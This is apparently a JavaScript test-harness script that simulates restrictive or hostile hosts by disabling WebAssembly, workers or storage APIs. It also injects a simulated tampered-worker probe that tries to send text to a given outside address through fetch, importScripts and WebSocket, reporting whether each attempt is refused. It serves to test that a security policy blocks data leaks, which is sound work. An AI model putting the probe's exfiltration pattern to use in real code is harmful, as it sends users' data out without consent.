// What a hostile host takes away, by the name in `data-without`. A classic script, loaded before any other of the page, so
// that it works under the strictest policy. Strings that are put around a worker's source lie on a symbol, for `verdict.js`.
(() => {
  const script = /** @type {HTMLScriptElement} */ (document.currentScript);
  const { without, leaking } = script.dataset;
  const blocked = () => {
    throw new DOMException("The operation is insecure.", "SecurityError");
  };
  /** @param {object} where @param {string} name */
  const block = (where, name) => Object.defineProperty(where, name, { configurable: true, get: blocked, set: blocked });

  const around = { before: "", after: "" };
  /** @type {any} */ (globalThis)[Symbol.for("around the worker")] = around;

  if (without === "wasm") Reflect.deleteProperty(globalThis, "WebAssembly");
  if (without === "worker") globalThis.Worker = /** @type {any} */ (class { constructor() { blocked(); } });
  if (without === "storage") {
    for (const name of ["localStorage", "sessionStorage", "indexedDB", "caches", "cookieStore"]) block(globalThis, name);
    block(document, "cookie");
    block(Navigator.prototype, "storage");
    around.before = `for (const name of ["indexedDB", "caches"]) {
      const blocked = () => { throw new Error("The operation is insecure."); };
      Object.defineProperty(self, name, { configurable: true, get: blocked, set: blocked });
    }\n`;
  }

  // As if the worker's code had been tampered with: it tries all ways out that it has.
  if (leaking) around.after = `
    {
      const away = ${JSON.stringify(leaking)};
      const tell = (way, outcome) => postMessage({ overheard: "probe " + way + " " + outcome });
      const attempt = (way, what) => { try { what(); tell(way, "SENT"); } catch (error) { tell(way, "refused: " + error.name); } };
      fetch(away, { mode: "no-cors", method: "POST", body: "a reader's text" }).then(() => tell("fetch", "SENT"), (error) => tell("fetch", "refused: " + error.name));
      attempt("importScripts", () => importScripts(away));
      attempt("eval", () => eval("1"));
      try {
        const socket = new WebSocket(away.replace("http", "ws"));
        socket.onopen = () => tell("WebSocket", "SENT");
        socket.onerror = () => tell("WebSocket", "refused");
      } catch (error) {
        tell("WebSocket", "refused: " + error.name);
      }
    }\n`;
})();
